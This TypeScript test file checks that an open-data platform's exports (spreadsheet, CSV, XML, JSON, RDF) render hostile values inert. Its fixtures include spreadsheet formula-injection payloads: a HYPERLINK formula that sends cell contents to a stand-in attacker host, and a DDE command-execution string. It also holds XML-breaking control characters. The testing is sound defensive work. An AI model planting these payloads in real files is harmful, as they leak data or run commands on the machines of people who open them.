/** Values that want to be more than values: formulas and signs that a form cannot hold, in every file of a release and every stream of its rows. */
import assert from 'node:assert/strict';
import type { Readable } from 'node:stream';
import { after, before, test } from 'node:test';
import { sql } from 'kysely';
import { Parser } from 'n3';
import { fromBuffer } from 'yauzl';
import { platform } from '#kernel/actor.ts';
import { newWorkbook } from '#kernel/spreadsheet.ts';
import { createOrganisation, importRegions } from '#rooms/org/index.ts';
import { creditCode } from '#tests/factories/city.ts';
import { type MadeSet, openSet, releaseColumn } from '#tests/factories/open-rows.ts';
import { type TestPlatform, testPlatform } from '#tests/factories/platform.ts';
import { resourceId } from '../ckan/index.ts';
import { type NativeFormat, nativeFile } from './native.ts';
import { type WrittenFormat, writtenFiles } from './written.ts';

const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"查看")',
  `=cmd|' /C calc'!A0`,
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\uff1d1+1',
];
/** What XML 1.0 cannot say at all, and what it or JSON says only escaped. */
const signs = [
  'a\u0000b',
  'a\u0001\u0008b',
  'a\u000bb',
  'a\u000cb',
  'a\u001bb\u001f',
  'a\ufffeb',
  'a\uffffb',
  'a\u007f\u0085b',
  'a\u2028"\\b',
  ']]><!-- & -->&#0;<b a="\'">',
  'a\r\nb\tc',
  '🌳',
];
const values = [...formulas, ...signs];
// biome-ignore lint/suspicious/noControlCharactersInRegex: the signs that XML has no way to write
const unwritable = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g;
const writable = values.map((value) => value.replace(unwritable, ''));

const titled = { ...releaseColumn('text', 'text', 1), titleZh: '=1+1' };
const columns = [titled, releaseColumn('n', 'integer', 2)];
let t: TestPlatform;
let set: MadeSet;

before(async () => {
  t = await testPlatform({ city: 'fuzhou' });
  const { regionCode } = t.p.law.city;
  await importRegions(t.p, platform, [
    { code: `${regionCode.slice(0, 2)}0000`, nameZh: '省' },
    { code: regionCode, nameZh: '市' },
  ]);
  const { id } = await createOrganisation(t.p, platform, {
    name: { zh: '教育局', en: 'education' },
    kind: 'administrative-organ',
    creditCode: creditCode(1),
    regionCode,
  });
  const hex = values.map((value) => `unhex('${Buffer.from(value).toString('hex')}')`);
  set = await openSet(t.p, {
    organisationId: id,
    slug: 'hostile',
    columns,
    values: `[${hex.join(', ')}][number + 1], -toInt64(number)`,
    rows: values.length,
  });
});
after(() => t.close());

const release = () => ({ id: set.releaseId, columns });
const signal = new AbortController().signal;

async function bytesOf(body: AsyncIterable<Buffer>): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const part of body) parts.push(Buffer.from(part));
  return Buffer.concat(parts);
}
const native = async (format: NativeFormat): Promise<string> =>
  (await bytesOf((await nativeFile(t.p, release(), format, signal)).body)).toString('utf8');
async function written(format: WrittenFormat): Promise<Buffer> {
  const fan = await writtenFiles(t.p, release(), [format], 'http://localhost/datasets/hostile', signal);
  const [rows, bytes] = await Promise.all([fan.run(), bytesOf(fan.bodies[0]?.body as Readable)]);
  assert.equal(rows, values.length);
  return bytes;
}
const sent = async (url: string): Promise<string> => {
  const reply = await t.app.inject({ url });
  assert.equal(reply.statusCode, 200, reply.body);
  return reply.body;
};

/** Read by PostgreSQL's parser, which takes nothing that is not well-formed. */
async function read(xml: string, element: string): Promise<string[]> {
  const path = `//*[local-name() = "${element}"]`;
  const { rows } = await sql<{ v: string }>`
    select v from xmltable((${path}::text) passing xmlparse(document ${xml}::text) columns v text path 'string(.)')`.execute(
    t.p.db,
  );
  return rows.map(({ v }) => v);
}

/** One entry of an archive. */
const unzipped = (archive: Buffer, name: string): Promise<Buffer> =>
  new Promise((resolve, reject) => {
    fromBuffer(archive, { lazyEntries: true }, (error, zip) => {
      if (error) return reject(error);
      zip.on('entry', (entry) => {
        if (entry.fileName !== name) return zip.readEntry();
        zip.openReadStream(entry, (failed, stream) =>
          failed ? reject(failed) : bytesOf(stream).then(resolve, reject),
        );
      });
      zip.on('end', () => reject(new Error(`no ${name}`)));
      zip.readEntry();
    });
  });

test('a spreadsheet has no cell that is a formula or a link, and its sheet can be read', async () => {
  const file = await written('xlsx');
  const sheet = (await unzipped(file, 'xl/worksheets/sheet1.xml')).toString('utf8');
  assert.doesNotMatch(sheet, /<(?:f|hyperlink)[\s/>]/);
  const cells = await read(sheet, 'c');
  assert.equal(cells.length, 2 * (values.length + 1));
  const book = await newWorkbook();
  await book.xlsx.load(Uint8Array.from(file).buffer as never);
  const page = book.getWorksheet(1);
  assert.equal(page?.getCell('A1').value, '=1+1', 'a heading is text as well');
  for (const [at, value] of formulas.entries()) {
    const cell = page?.getCell(at + 2, 1);
    assert.equal(cell?.formula, undefined, value);
    assert.equal(cell?.hyperlink, undefined, value);
    assert.equal(cell?.value, value, 'the text as it is');
  }
  assert.equal(page?.getCell(3, 2).value, -1, 'a number below nothing stays a number');
});

test('the table for spreadsheets has nothing that one would run, in its heading neither', async () => {
  const text = (await written('csv-excel')).toString('utf8');
  assert.ok(text.startsWith("\uFEFF'=1+1,"));
  for (const value of formulas)
    assert.ok(text.includes(`'${value}`.replaceAll('"', '""')), `${value} is kept from running`);
  assert.doesNotMatch(text, /^"?\s*[=+@\uff1d]/m);
});

test('XML of every way is well-formed, with all of each value that XML can hold', async () => {
  assert.deepEqual((await read(await native('xml'), 'text')).slice(-values.length), writable);
  const base = '/api/open/datasets/hostile';
  assert.deepEqual(await read(await sent(`${base}/rows.xml`), 'text'), writable);
  const dump = `/datastore/dump/${resourceId(set.id, 'csv')}`;
  assert.deepEqual(await read(await sent(`${dump}?format=xml`), 'text'), writable);
});

test('JSON of every way is JSON, with every value as it is', async () => {
  const texts = (rows: { text: string }[]): string[] => rows.map(({ text }) => text);
  const each = (body: string): string[] =>
    texts(
      body
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line)),
    );
  assert.deepEqual(texts(JSON.parse(await native('json'))), values);
  assert.deepEqual(each(await native('ndjson')), values);
  const base = '/api/open/datasets/hostile';
  assert.deepEqual(texts(JSON.parse(await sent(`${base}/rows.json`))), values);
  assert.deepEqual(each(await sent(`${base}/rows.ndjson`)), values);
  const dump = `/datastore/dump/${resourceId(set.id, 'csv')}`;
  const { records } = JSON.parse(await sent(`${dump}?format=json`)) as { records: unknown[][] };
  assert.deepEqual(
    records.map((record) => record.find((cell) => typeof cell === 'string')),
    values,
  );
  const map = JSON.parse((await written('geojson')).toString('utf8')) as {
    features: { properties: { text: string } }[];
  };
  assert.deepEqual(texts(map.features.map(({ properties }) => properties)), values);
});

test('RDF is read with every value as it is', async () => {
  for (const format of ['turtle', 'ntriples'] as const) {
    const quads = new Parser().parse((await written(format)).toString('utf8'));
    assert.deepEqual(
      quads.flatMap(({ predicate, object }) => (predicate.value.endsWith('/text') ? [object.value] : [])),
      values,
      format,
    );
  }
});
